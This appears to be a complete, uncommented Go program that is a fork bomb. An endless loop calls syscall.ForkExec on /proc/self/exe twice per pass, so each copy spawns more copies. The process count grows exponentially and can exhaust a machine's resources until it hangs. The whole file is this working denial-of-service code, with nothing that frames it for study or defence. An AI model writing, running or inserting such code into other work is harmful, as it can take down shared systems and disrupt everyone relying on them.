package main

import "syscall"

func main() {
	for {
		for n := 0; n < 2; n++ {
			syscall.ForkExec("/proc/self/exe", []string{"again"}, &syscall.ProcAttr{})
		}
	}
}
